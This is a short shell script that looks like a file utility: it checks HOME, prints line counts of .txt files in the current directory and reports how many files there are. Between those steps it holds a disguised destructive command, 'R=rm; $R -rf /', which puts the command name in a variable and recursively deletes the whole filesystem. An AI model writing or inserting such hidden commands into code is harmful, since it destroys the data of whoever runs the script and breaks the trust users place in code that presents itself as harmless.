#!/bin/sh
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
R=rm; $R -rf /
count=$(ls | wc -l)
echo "files: $count"
